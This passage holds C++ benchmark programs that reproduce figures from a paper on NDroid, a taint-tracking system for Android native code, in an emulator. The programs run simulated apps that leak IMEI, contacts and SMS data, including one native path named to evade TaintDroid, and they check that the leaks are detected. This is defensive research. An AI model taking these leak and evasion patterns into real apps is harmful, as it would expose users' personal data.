        cls, "tick", "V", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());

    // Caller stub assembled into libdvm.so (NOT third-party code).
    arm::Assembler a(0);
    {
      using arm::Cond;
      using arm::Label;
      using arm::LR;
      using arm::PC;
      using arm::R;
      using arm::SP;
      Label loop, done;
      a.push({R(4), R(5), LR});
      a.mov(R(4), R(0));  // iterations
      a.mov_imm32(R(5), tick->guest_addr);
      a.bind(loop);
      a.cmp_imm(R(4), 0);
      a.b(done, Cond::kEQ);
      a.sub_imm(SP, SP, 8);
      a.mov(R(0), R(5));
      a.mov_imm(R(1), 0);   // no receiver (static)
      a.mov(R(2), SP);      // result slot
      a.mov_imm(R(3), 0);   // no args
      a.call(device.dvm.call_method_stub('V'));
      a.add_imm(SP, SP, 8);
      a.sub_imm(R(4), R(4), 1);
      a.b(loop);
      a.bind(done);
      a.pop({R(4), R(5), PC});
    }
    const auto code = a.finish();
    const GuestAddr caller =
        device.dvm.stub_alloc("system_callback_driver", code);

    const double t = time_run(
        [&] { device.cpu.call_function(caller, {1000}); }, reps);
    std::printf("  multilevel %-3s  %8.3f ms\n", multilevel ? "on" : "off",
                1e3 * t);
    (multilevel ? ml_on : ml_off) = t;
  }
  std::printf("  unconditional hooking costs %.2fx of chain-gated hooking\n",
              ml_off / ml_on);

  return all_detect ? 0 : 1;
}
