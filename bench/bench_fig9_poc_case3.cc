// Regenerates Fig. 9: the PoC of leak case 3.
//
// Java gathers device info (IMEI + network operator), hands it to the
// native method evadeTaintDroid, which wraps it in a new String
// (NewStringUTF -> dvmCreateStringFromCstr) and pushes it back to Java via
// CallStaticVoidMethodA -> dvmCallMethodA -> dvmInterpret, where Java sends
// it out. The multilevel hooking chain T1..T6 (Fig. 5) gates the
// dvmCallMethod*/dvmInterpret instrumentation; NDroid restores the taints
// into the new method frame so TaintDroid's Java sink fires.
#include <cstdio>

#include "apps/leak_cases.h"
#include "core/ndroid.h"

using namespace ndroid;

int main() {
  android::Device device("com.ndroid.demos");
  core::NDroidConfig cfg;
  cfg.echo_log = true;
  std::printf("--- NDroid trace (cf. paper Fig. 9) ---\n");
  core::NDroid nd(device, cfg);

  const apps::LeakScenario app = apps::build_case3(device);
  device.dvm.call(*app.entry, {});

  std::printf("\n--- detection results ---\n");
  const std::string sent =
      device.kernel.network().bytes_sent_to("case3.collect.example.com");
  std::printf("exfiltrated: '%s'\n", sent.c_str());

  std::printf("multilevel chain events: ");
  for (int i = 0; i < 6; ++i) {
    std::printf("T%d=%llu ", i + 1,
                static_cast<unsigned long long>(
                    nd.dvm_hooks().chain_events[i]));
  }
  std::printf("\nframe-taint restores at dvmInterpret: %llu\n",
              static_cast<unsigned long long>(
                  nd.dvm_hooks().jni_exit_restores));

  bool ok = !sent.empty();
  if (device.framework.leaks().empty()) {
    std::printf("FAIL: leak not detected\n");
    ok = false;
  } else {
    std::printf("leak detected at Java sink, taint 0x%x\n",
                device.framework.leaks().front().taint);
  }
  for (int i = 0; i < 6; ++i) ok = ok && nd.dvm_hooks().chain_events[i] > 0;

  android::Device plain("com.ndroid.demos");
  const apps::LeakScenario app2 = apps::build_case3(plain);
  plain.dvm.call(*app2.entry, {});
  std::printf("TaintDroid-only run: %s\n",
              plain.framework.leaks().empty()
                  ? "missed (as the paper reports)"
                  : "detected (unexpected)");
  ok = ok && plain.framework.leaks().empty();
  return ok ? 0 : 1;
}
