// Regenerates Fig. 7: the ePhone case study (a case-2 flow).
//
// callregister receives contact data (taint 0x2) in args[2]; the native code
// converts it with GetStringUTFChars, processes it with memcpy/sprintf, and
// sendto()s a SIP REGISTER to softphone.comwave.net. NDroid tracks the flow
// to the native sendto sink.
#include <cstdio>

#include "apps/real_apps.h"
#include "core/ndroid.h"

using namespace ndroid;

int main() {
  android::Device device("com.vnet.ephone");
  core::NDroidConfig cfg;
  cfg.echo_log = true;
  std::printf("--- NDroid trace (cf. paper Fig. 7) ---\n");
  core::NDroid nd(device, cfg);

  const apps::LeakScenario app = apps::build_ephone(device);
  device.dvm.call(*app.entry, {});

  std::printf("\n--- detection results ---\n");
  const std::string sent =
      device.kernel.network().bytes_sent_to("softphone.comwave.net");
  std::printf("payload: %.100s\n", sent.c_str());

  bool ok = sent.find("REGISTER sip:softphone.comwave.net") !=
            std::string::npos;
  if (nd.leaks().empty()) {
    std::printf("FAIL: NDroid did not flag the native sink\n");
    ok = false;
  } else {
    const auto& leak = nd.leaks().front();
    std::printf("NDroid leak: sink=%s dest=%s taint=0x%x (paper: 0x2)\n",
                leak.sink.c_str(), leak.destination.c_str(), leak.taint);
    ok = ok && leak.sink == "sendto" && leak.taint == 0x2;
  }

  android::Device plain("com.vnet.ephone");
  const apps::LeakScenario app2 = apps::build_ephone(plain);
  plain.dvm.call(*app2.entry, {});
  std::printf("TaintDroid-only run: %s\n",
              plain.framework.leaks().empty()
                  ? "missed (as the paper reports)"
                  : "detected (unexpected)");
  ok = ok && plain.framework.leaks().empty();
  return ok ? 0 : 1;
}
