// Regenerates §III + Fig. 2: the large-scale study of apps using JNI.
//
// Paper numbers: 227,911 apps; 37,506 type I (16.46%); Game = 42% of type I;
// 4,034 type I apps without libraries, 48.1% of those with the AdMob plugin;
// 1,738 type II apps, 394 with a loadable dex; 16 type III apps (11 games,
// 5 entertainment).
#include <algorithm>
#include <cstdio>

#include "market/analyzer.h"

using namespace ndroid;

int main() {
  market::CorpusParams params;  // the paper-scale corpus
  std::printf("generating synthetic corpus of %u apps (seed %llu)...\n",
              params.total_apps,
              static_cast<unsigned long long>(params.seed));
  const auto corpus = market::generate_corpus(params);
  const market::StudyResult r = market::analyze(corpus);

  std::printf("\n--- Section III statistics (measured vs paper) ---\n");
  std::printf("%-38s %10s %10s\n", "metric", "measured", "paper");
  std::printf("%-38s %10u %10u\n", "total apps", r.total, 227'911u);
  std::printf("%-38s %10u %10u\n", "type I apps (call System.load*)",
              r.type1, 37'506u);
  std::printf("%-38s %9.2f%% %9.2f%%\n", "type I fraction",
              100.0 * r.type1_fraction(), 16.46);
  std::printf("%-38s %10u %10u\n", "type I without bundled libs",
              r.type1_without_libs, 4'034u);
  std::printf("%-38s %9.1f%% %9.1f%%\n", "  of which AdMob plugin classes",
              100.0 * r.type1_without_libs_admob /
                  (r.type1_without_libs ? r.type1_without_libs : 1),
              48.1);
  std::printf("%-38s %10u %10u\n", "type II apps (libs, no load call)",
              r.type2, 1'738u);
  std::printf("%-38s %10u %10u\n", "  of which can load via hidden dex",
              r.type2_with_dex_loader, 394u);
  std::printf("%-38s %10u %10u\n", "type III apps (pure native)", r.type3,
              16u);
  std::printf("%-38s %10u %10u\n", "  games / entertainment", r.type3_games,
              11u);

  std::printf("\n--- Fig. 2: category distribution of type I apps ---\n");
  for (const auto& [category, pct] : market::category_shares()) {
    const double measured = 100.0 * r.category_share(category);
    std::printf("%-20s measured %5.1f%%   paper %3u%%\n", category.c_str(),
                measured, pct);
  }

  std::printf(
      "\n--- native-declaration classes in lib-less type I apps ---\n"
      "(paper: the top classes are the 8 AdMob plugin classes, present in\n"
      " 48.1%% of such apps)\n");
  const auto top_classes = r.top_native_decl_classes(8);
  u32 admob_in_top8 = 0;
  for (const auto& [cls, count] : top_classes) {
    const bool is_admob =
        std::find(market::admob_classes().begin(),
                  market::admob_classes().end(),
                  cls) != market::admob_classes().end();
    admob_in_top8 += is_admob;
    std::printf("%-52s %5u apps %s\n", cls.c_str(), count,
                is_admob ? "[AdMob]" : "");
  }
  std::printf("AdMob classes among the top 8: %u/8; plugin share %.1f%%\n",
              admob_in_top8,
              100.0 * r.share_with_classes(market::admob_classes()));

  std::printf("\n--- library popularity (top 10) ---\n");
  for (const auto& [lib, count] : r.top_libraries(10)) {
    std::printf("%-28s %u apps\n", lib.c_str(), count);
  }

  const bool ok = r.type1 == 37'506u && r.type3 == 16u &&
                  r.type2_with_dex_loader == 394u;
  std::printf("\n%s\n", ok ? "OK: Section III counts reproduced"
                           : "MISMATCH in Section III counts");
  return ok ? 0 : 1;
}
