// Regenerates Fig. 8: the PoC of leak case 2.
//
// recordContact receives three tainted contact strings (taint 0x2), converts
// them with GetStringUTFChars, opens /sdcard/CONTACTS, and fprintf()s them.
// NDroid's fprintf SinkHandler catches the leak; TaintDroid has no native
// sinks and misses it.
#include <cstdio>

#include "apps/leak_cases.h"
#include "core/ndroid.h"

using namespace ndroid;

int main() {
  android::Device device("com.ndroid.demos");
  core::NDroidConfig cfg;
  cfg.echo_log = true;
  std::printf("--- NDroid trace (cf. paper Fig. 8) ---\n");
  core::NDroid nd(device, cfg);

  const apps::LeakScenario app = apps::build_case2(device);
  device.dvm.call(*app.entry, {});

  std::printf("\n--- detection results ---\n");
  const std::string file =
      device.kernel.vfs().content_str("/sdcard/CONTACTS");
  std::printf("/sdcard/CONTACTS: '%s'\n", file.c_str());

  bool ok = file == "1 Vincent cx@gg.com ";
  if (nd.leaks().empty()) {
    std::printf("FAIL: fprintf sink not flagged\n");
    ok = false;
  } else {
    const auto& leak = nd.leaks().front();
    std::printf("NDroid leak: sink=%s dest=%s taint=0x%x (paper: 0x2)\n",
                leak.sink.c_str(), leak.destination.c_str(), leak.taint);
    ok = ok && leak.sink == "fprintf" &&
         leak.destination == "/sdcard/CONTACTS" && leak.taint == 0x2;
  }
  std::printf("source policies: created=%llu applied=%llu\n",
              static_cast<unsigned long long>(
                  nd.dvm_hooks().source_policies_created),
              static_cast<unsigned long long>(
                  nd.dvm_hooks().source_policies_applied));
  return ok ? 0 : 1;
}
