// Regenerates Fig. 6: the QQPhoneBook case study (a case-1' flow).
//
// The Java code passes SMS/contacts data (taint 0x202) into the native
// method makeLoginRequestPackageMd5; a later call to getPostUrl returns it
// wrapped into a new String created by NewStringUTF, which Java then posts
// to the sync server. TaintDroid alone misses this; NDroid's object-creation
// hooks re-taint the new String.
#include <cstdio>

#include "apps/real_apps.h"
#include "core/ndroid.h"

using namespace ndroid;

int main() {
  android::Device device("com.tencent.qqphonebook");
  core::NDroidConfig cfg;
  cfg.echo_log = true;
  std::printf("--- NDroid trace (cf. paper Fig. 6) ---\n");
  core::NDroid nd(device, cfg);

  const apps::LeakScenario app = apps::build_qq_phonebook(device);
  device.dvm.call(*app.entry, {});

  std::printf("\n--- detection results ---\n");
  const std::string sent =
      device.kernel.network().bytes_sent_to("sync.3g.qq.com");
  std::printf("bytes sent to sync.3g.qq.com: %zu\n", sent.size());
  std::printf("payload: %.80s...\n", sent.c_str());

  bool ok = true;
  if (device.framework.leaks().empty()) {
    std::printf("FAIL: leak not detected\n");
    ok = false;
  } else {
    const auto& leak = device.framework.leaks().front();
    std::printf("leak detected at sink '%s', taint 0x%x (paper: 0x202)\n",
                leak.sink.c_str(), leak.taint);
    ok = leak.taint == 0x202;
  }

  // Without NDroid the same app leaks undetected.
  android::Device plain("com.tencent.qqphonebook");
  const apps::LeakScenario app2 = apps::build_qq_phonebook(plain);
  plain.dvm.call(*app2.entry, {});
  std::printf("TaintDroid-only run: %s\n",
              plain.framework.leaks().empty()
                  ? "missed (as the paper reports)"
                  : "detected (unexpected)");
  ok = ok && plain.framework.leaks().empty();
  return ok ? 0 : 1;
}
