// Regenerates Fig. 10: CF-Bench overhead of NDroid vs the baselines.
//
// The paper runs CF-Bench 30 times on NDroid and on a vanilla emulator and
// reports per-category slowdowns; NDroid averages 5.45x overall, "much
// smaller than the result of DroidScope (i.e., at least 11 times slowdown)".
// Expected shape here: Java-side categories near 1x under NDroid (TaintDroid
// handles the Java context natively), native-side categories carry the
// instruction-tracing cost, and DroidScope-mode is the most expensive
// across the board.
#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstring>
#include <memory>
#include <string>

#include "apps/cfbench.h"
#include "core/ndroid.h"
#include "droidscope/droidscope.h"

using namespace ndroid;

namespace {

enum class Config { kVanilla, kTaintDroid, kNDroid, kDroidScope };


u32 iterations_for(const std::string& name) {
  if (name.find("Disk") != std::string::npos) return 400;
  if (name.find("MALLOC") != std::string::npos) return 1200;
  if (name.find("Java") != std::string::npos) return 1500;
  return 4000;
}

/// Median wall time over `reps` runs of one workload.
double time_workload(apps::CfBenchApp& bench, const apps::CfWorkload& w,
                     u32 iters, int reps) {
  std::vector<double> times;
  bench.run(w, iters / 4);  // warm-up (populates handler caches)
  for (int r = 0; r < reps; ++r) {
    const auto t0 = std::chrono::steady_clock::now();
    bench.run(w, iters);
    const auto t1 = std::chrono::steady_clock::now();
    times.push_back(std::chrono::duration<double>(t1 - t0).count());
  }
  std::sort(times.begin(), times.end());
  return times[times.size() / 2];
}

double geomean(const std::vector<double>& xs) {
  if (xs.empty()) return 0.0;
  double log_sum = 0.0;
  for (double x : xs) log_sum += std::log(x);
  return std::exp(log_sum / static_cast<double>(xs.size()));
}

}  // namespace

int main(int argc, char** argv) {
  int reps = 5;
  const char* json_path = nullptr;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--json") == 0) {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "usage: %s [reps] [--json <path>]\n", argv[0]);
        return 2;
      }
      json_path = argv[++i];
    } else {
      reps = std::atoi(argv[i]);
    }
  }
  if (reps < 1) reps = 1;  // "0" or garbage would index an empty median
  const Config configs[] = {Config::kVanilla, Config::kTaintDroid,
                            Config::kNDroid, Config::kDroidScope};

  // workload -> config -> time
  std::vector<std::string> names;
  std::map<std::string, std::map<Config, double>> results;
  std::map<std::string, bool> is_java;

  for (Config config : configs) {
    android::Device device("eu.chainfire.cfbench");
    // All configs run on the default TB-cache engine — the analogue of the
    // paper's testbed, where the vanilla baseline is QEMU's *translated*
    // code and the analyses pay per-instruction instrumentation on top of
    // it. The paper's NDroid traces every in-scope native instruction
    // whether or not taint is live, so the NDroid config disables this
    // reproduction's taint-liveness fast path (which would otherwise show
    // ~1x on CF-Bench's untainted loops; BENCH_micro measures that mode).
    std::unique_ptr<core::NDroid> nd;
    std::unique_ptr<droidscope::DroidScope> ds;
    switch (config) {
      case Config::kVanilla:
        device.dvm.policy().propagate_java = false;
        device.dvm.policy().jni_ret_union = false;
        break;
      case Config::kTaintDroid:
        break;
      case Config::kNDroid: {
        core::NDroidConfig cfg;
        cfg.taint_liveness_fastpath = false;
        nd = std::make_unique<core::NDroid>(device, cfg);
        break;
      }
      case Config::kDroidScope:
        ds = std::make_unique<droidscope::DroidScope>(device);
        break;
    }
    apps::CfBenchApp bench(device);
    for (const auto& w : bench.workloads()) {
      if (results.find(w.name) == results.end()) names.push_back(w.name);
      results[w.name][config] =
          time_workload(bench, w, iterations_for(w.name), reps);
      is_java[w.name] = w.java;
    }
  }

  std::printf(
      "Fig. 10 — CF-Bench overhead (x slowdown vs vanilla emulator, "
      "median of %d runs)\n\n", reps);
  std::printf("%-22s %10s %10s %10s\n", "category", "TaintDroid", "NDroid",
              "DroidScope");

  std::vector<double> nd_all, nd_native, nd_java, ds_all;
  for (const std::string& name : names) {
    const double base = results[name][Config::kVanilla];
    const double td = results[name][Config::kTaintDroid] / base;
    const double ndx = results[name][Config::kNDroid] / base;
    const double dsx = results[name][Config::kDroidScope] / base;
    std::printf("%-22s %9.2fx %9.2fx %9.2fx\n", name.c_str(), td, ndx, dsx);
    nd_all.push_back(ndx);
    ds_all.push_back(dsx);
    (is_java[name] ? nd_java : nd_native).push_back(ndx);
  }

  const double nd_native_score = geomean(nd_native);
  const double nd_java_score = geomean(nd_java);
  const double nd_overall = geomean(nd_all);
  const double ds_overall = geomean(ds_all);
  std::printf("%-22s %10s %9.2fx %10s\n", "Native Score", "", nd_native_score,
              "");
  std::printf("%-22s %10s %9.2fx %10s\n", "Java Score", "", nd_java_score, "");
  std::printf("%-22s %10s %9.2fx %9.2fx\n", "Overall Score", "", nd_overall,
              ds_overall);

  std::printf(
      "\npaper: NDroid overall 5.45x +/- 0.414; DroidScope >= 11x.\n"
      "shape checks:\n");
  const bool shape1 = nd_overall < ds_overall;
  const bool shape2 = nd_java_score < nd_native_score;
  const bool shape3 = nd_java_score < 2.0;
  std::printf("  [%s] NDroid cheaper than DroidScope overall (%.2fx < %.2fx)\n",
              shape1 ? "ok" : "FAIL", nd_overall, ds_overall);
  std::printf("  [%s] Java categories cheaper than native under NDroid\n",
              shape2 ? "ok" : "FAIL");
  std::printf("  [%s] Java-side overhead near 1x under NDroid (%.2fx)\n",
              shape3 ? "ok" : "FAIL", nd_java_score);

  if (json_path != nullptr) {
    std::FILE* f = std::fopen(json_path, "w");
    if (f == nullptr) {
      std::perror(json_path);
      return 1;
    }
    std::fprintf(f,
                 "{\n  \"engine\": \"tb-cache (NDroid: "
                 "taint_liveness_fastpath=false, paper policy)\",\n");
    std::fprintf(f, "  \"reps\": %d,\n  \"categories\": [\n", reps);
    for (std::size_t i = 0; i < names.size(); ++i) {
      const std::string& name = names[i];
      const double base = results[name][Config::kVanilla];
      std::fprintf(f,
                   "    {\"name\": \"%s\", \"java\": %s, "
                   "\"taintdroid_x\": %.3f, \"ndroid_x\": %.3f, "
                   "\"droidscope_x\": %.3f}%s\n",
                   name.c_str(), is_java[name] ? "true" : "false",
                   results[name][Config::kTaintDroid] / base,
                   results[name][Config::kNDroid] / base,
                   results[name][Config::kDroidScope] / base,
                   i + 1 < names.size() ? "," : "");
    }
    std::fprintf(f,
                 "  ],\n  \"ndroid_native_score_x\": %.3f,\n"
                 "  \"ndroid_java_score_x\": %.3f,\n"
                 "  \"ndroid_overall_x\": %.3f,\n"
                 "  \"droidscope_overall_x\": %.3f,\n"
                 "  \"shape_checks_pass\": %s\n}\n",
                 nd_native_score, nd_java_score, nd_overall, ds_overall,
                 (shape1 && shape2 && shape3) ? "true" : "false");
    std::fclose(f);
    std::printf("\nwrote %s\n", json_path);
  }
  return (shape1 && shape2 && shape3) ? 0 : 1;
}
