// Microbenchmarks (google-benchmark) of the substrate hot paths that
// determine the Fig. 10 numbers: raw emulation speed, instruction-tracer
// cost, shadow-memory operations, and interpreter throughput.
//
// The BM_Mem* group covers the memory data plane (software TLB, page
// directory, word-granular shadow range ops); the BM_Threaded* pair covers
// the threaded micro-op dispatch loop. `--smoke` runs both groups with a
// short min-time so CI can catch crashes/asserts in benchmark code without
// perf gating.
#include <benchmark/benchmark.h>

#include <cstring>

#include "apps/cfbench.h"
#include "arm/assembler.h"
#include "core/ndroid.h"

using namespace ndroid;

namespace {

struct Env {
  android::Device device;
  apps::CfBenchApp bench;
  Env() : device("bench"), bench(device) {}
};

constexpr u64 kMipsInsnsPerIter = 1000 * 11;  // ~insns per bench.run(w, 1000)

void report_native_mips(benchmark::State& state, const arm::Cpu& cpu) {
  state.SetItemsProcessed(state.iterations() * kMipsInsnsPerIter);
  const core::PerfCounters perf = core::collect_perf(cpu);
  state.counters["tb_hit_rate"] = perf.tb_hit_rate();
  state.counters["ns_per_insn"] = benchmark::Counter(
      static_cast<double>(state.iterations() * kMipsInsnsPerIter),
      benchmark::Counter::kIsRate | benchmark::Counter::kInvert);
}

/// Taint-free native loop, translation-block engine (the default).
void BM_EmulatorNativeMips(benchmark::State& state) {
  Env env;
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMips);

/// Taint-free native loop with the template JIT tier on: clean blocks run
/// as emitted host x86-64 with version-fenced direct links. Acceptance:
/// >= 1.3x BM_EmulatorNativeMips (the threaded tier). On hosts without
/// host-code emission set_jit_enabled is a no-op and this measures the
/// threaded tier exactly.
void BM_JitNativeMips(benchmark::State& state) {
  Env env;
  env.device.cpu.set_jit_enabled(true);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
  const core::PerfCounters perf = core::collect_perf(env.device.cpu);
  state.counters["jit_blocks"] = static_cast<double>(perf.jit_blocks);
  state.counters["jit_bytes"] = static_cast<double>(perf.jit_bytes);
  state.counters["jit_links"] = static_cast<double>(perf.jit_links);
  state.counters["jit_patches"] = static_cast<double>(perf.jit_patches);
  state.counters["jit_arena_flushes"] =
      static_cast<double>(perf.jit_arena_flushes);
}
BENCHMARK(BM_JitNativeMips);

/// Taint-free native loop on the PR-5 per-instruction TB+TLB engine
/// (ablation `set_threaded_enabled(false)`): the baseline the threaded
/// micro-op tier's >= 2x acceptance ratio is measured against.
void BM_EmulatorNativeMipsTbTlb(benchmark::State& state) {
  Env env;
  env.device.cpu.set_threaded_enabled(false);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTbTlb);

/// Taint-free native loop on the seed interpretive path (ablation
/// `use_tb_cache=false`): the pre-PR baseline for the emulator itself.
void BM_EmulatorNativeMipsInterp(benchmark::State& state) {
  Env env;
  env.device.cpu.set_use_tb_cache(false);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsInterp);

/// Taint-free native loop with NDroid attached, TB engine: the block gate
/// sees no live taint and skips all per-instruction work (fast path).
void BM_EmulatorNativeMipsTraced(benchmark::State& state) {
  Env env;
  core::NDroid nd(env.device);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTraced);

/// NDroid attached on the seed interpretive path: every instruction is
/// hooked and classified — the pre-PR traced baseline. The acceptance
/// target is BM_EmulatorNativeMipsTraced >= 3x faster than this.
void BM_EmulatorNativeMipsTracedInterp(benchmark::State& state) {
  Env env;
  env.device.cpu.set_use_tb_cache(false);
  core::NDroid nd(env.device);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTracedInterp);

/// NDroid + TB engine with live register taint: the liveness gate cannot
/// skip any in-scope block, so this measures per-instruction tracing cost
/// (Table V classification + propagation) on the TB engine.
void BM_EmulatorNativeMipsTracedTainted(benchmark::State& state) {
  Env env;
  core::NDroid nd(env.device);
  // Taint a callee-saved register the loop never writes: register liveness
  // stays non-zero forever and every block takes the traced path.
  nd.taint_engine().set_reg(4, 0x2);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTracedTainted);

/// NDroid + live register taint with the JIT armed: gate-fired blocks run
/// their taint-fused *traced* host stream (Table V transfers inlined over
/// the raw label file, shadow-TLB label probes, deferred bookkeeping
/// resync). Acceptance: >= 3x faster than BM_EmulatorNativeMipsTracedTainted
/// (the threaded fused-trace tier). The emitted counters prove which tier
/// actually executed: `jit_traced_blocks` counts gate-fired dispatches that
/// ran traced host code and must dominate; `jit_fallback_blocks` counts
/// hooked dispatches that fell back to the threaded streams.
void BM_JitTracedTainted(benchmark::State& state) {
  Env env;
  env.device.cpu.set_jit_enabled(true);
  core::NDroid nd(env.device);
  nd.taint_engine().set_reg(4, 0x2);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
  const core::PerfCounters perf = core::collect_perf(env.device.cpu);
  state.counters["jit_traced_blocks"] =
      static_cast<double>(perf.jit_traced_blocks);
  state.counters["jit_fallback_blocks"] =
      static_cast<double>(perf.jit_fallback_blocks);
}
BENCHMARK(BM_JitTracedTainted);

/// NDroid + TB engine with live register taint and NO gating at all
/// (`taint_liveness_fastpath=false`, `static_summaries=false`): the seed
/// full-trace configuration on the TB engine. Baseline for the gating trio
/// recorded by scripts/bench.sh.
void BM_EmulatorNativeMipsTracedTaintedFull(benchmark::State& state) {
  Env env;
  core::NDroidConfig cfg;
  cfg.taint_liveness_fastpath = false;
  cfg.static_summaries = false;
  core::NDroid nd(env.device, cfg);
  nd.taint_engine().set_reg(4, 0x2);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTracedTaintedFull);

/// Same live taint (r4 — outside nativeMips's Table V footprint r0-r3), but
/// with the static pre-analysis attached: the liveness gate alone cannot
/// skip (register taint is live), while the summary gate proves the
/// intersection empty and skips the whole loop. The speedup of this
/// benchmark over BM_EmulatorNativeMipsTracedTainted is the PR's
/// summary-gated acceptance ratio.
void BM_EmulatorNativeMipsTracedTaintedSummary(benchmark::State& state) {
  Env env;
  core::NDroid nd(env.device);
  nd.attach_static_analysis();
  nd.taint_engine().set_reg(4, 0x2);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTracedTaintedSummary);

/// Live register taint on the PR-5 per-instruction engine: together with
/// BM_EmulatorNativeMipsTracedTainted (threaded default) this isolates what
/// fusing the Table V thunks into the micro-op stream buys on taint-live
/// blocks.
void BM_EmulatorNativeMipsTracedTaintedTbTlb(benchmark::State& state) {
  Env env;
  env.device.cpu.set_threaded_enabled(false);
  core::NDroid nd(env.device);
  nd.taint_engine().set_reg(4, 0x2);
  const auto* w = env.bench.find("Native MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  report_native_mips(state, env.device.cpu);
}
BENCHMARK(BM_EmulatorNativeMipsTracedTaintedTbTlb);

/// Pure threaded-dispatch kernel: a register-only counted loop on a bare
/// CPU — after the first iteration every block transition follows a patched
/// direct link, so this measures uop dispatch plus link-follow overhead
/// with no memory traffic and no analysis attached.
constexpr GuestAddr kDispatchCode = 0x10000;
constexpr u32 kDispatchIters = 4096;

void setup_dispatch_kernel(mem::AddressSpace& mem, mem::MemoryMap& map,
                           arm::Cpu& cpu) {
  map.add("code", kDispatchCode, 0x1000, mem::kRX);
  map.add("[stack]", 0x70000, 0x10000, mem::kRW);
  cpu.set_initial_sp(0x80000);
  arm::Assembler a(kDispatchCode);
  arm::Label loop, done;
  a.mov_imm(arm::R(1), 0);
  a.bind(loop);
  a.cmp_imm(arm::R(0), 0);
  a.b(done, arm::Cond::kEQ);
  a.add_imm(arm::R(1), arm::R(1), 3);
  a.eor(arm::R(1), arm::R(1), arm::R(0));
  a.sub_imm(arm::R(0), arm::R(0), 1);
  a.b(loop);
  a.bind(done);
  a.mov(arm::R(0), arm::R(1));
  a.ret();
  mem.write_bytes(kDispatchCode, a.finish());
}

/// `insns` is the measured retire count (instructions_retired() delta over
/// the timed loop), not an estimate — per-instruction figures stay honest
/// if the kernel or the call_function glue changes shape.
void report_dispatch(benchmark::State& state, const arm::Cpu& cpu,
                     u64 insns) {
  state.SetItemsProcessed(static_cast<int64_t>(insns));
  state.counters["ns_per_insn"] =
      benchmark::Counter(static_cast<double>(insns),
                         benchmark::Counter::kIsRate |
                             benchmark::Counter::kInvert);
  const core::PerfCounters perf = core::collect_perf(cpu);
  state.counters["threaded_links"] = static_cast<double>(perf.threaded_links);
  state.counters["jit_links"] = static_cast<double>(perf.jit_links);
}

void BM_ThreadedDispatch(benchmark::State& state) {
  mem::AddressSpace mem;
  mem::MemoryMap map;
  arm::Cpu cpu(mem, map);
  setup_dispatch_kernel(mem, map, cpu);
  const u64 before = cpu.instructions_retired();
  for (auto _ : state) {
    benchmark::DoNotOptimize(cpu.call_function(kDispatchCode,
                                               {kDispatchIters}));
  }
  report_dispatch(state, cpu, cpu.instructions_retired() - before);
}
BENCHMARK(BM_ThreadedDispatch);

/// The same kernel on the PR-5 per-instruction engine: the pair's ratio is
/// the dispatch-loop speedup in isolation.
void BM_ThreadedDispatchTbTlb(benchmark::State& state) {
  mem::AddressSpace mem;
  mem::MemoryMap map;
  arm::Cpu cpu(mem, map);
  cpu.set_threaded_enabled(false);
  setup_dispatch_kernel(mem, map, cpu);
  const u64 before = cpu.instructions_retired();
  for (auto _ : state) {
    benchmark::DoNotOptimize(cpu.call_function(kDispatchCode,
                                               {kDispatchIters}));
  }
  report_dispatch(state, cpu, cpu.instructions_retired() - before);
}
BENCHMARK(BM_ThreadedDispatchTbTlb);

/// The same kernel with the template JIT on: after warmup every transition
/// is a version-fenced host jump, so this is the floor of the dispatch
/// ladder (on non-x86-64 hosts it degrades to BM_ThreadedDispatch).
void BM_JitDispatch(benchmark::State& state) {
  mem::AddressSpace mem;
  mem::MemoryMap map;
  arm::Cpu cpu(mem, map);
  cpu.set_jit_enabled(true);
  setup_dispatch_kernel(mem, map, cpu);
  const u64 before = cpu.instructions_retired();
  for (auto _ : state) {
    benchmark::DoNotOptimize(cpu.call_function(kDispatchCode,
                                               {kDispatchIters}));
  }
  report_dispatch(state, cpu, cpu.instructions_retired() - before);
}
BENCHMARK(BM_JitDispatch);

void BM_InterpreterJavaMips(benchmark::State& state) {
  Env env;
  const auto* w = env.bench.find("Java MIPS");
  for (auto _ : state) {
    benchmark::DoNotOptimize(env.bench.run(*w, 1000));
  }
  state.SetItemsProcessed(state.iterations() * 1000 * 9);  // bytecodes/iter
}
BENCHMARK(BM_InterpreterJavaMips);

void BM_ShadowMemorySetGet(benchmark::State& state) {
  mem::ShadowMemory shadow;
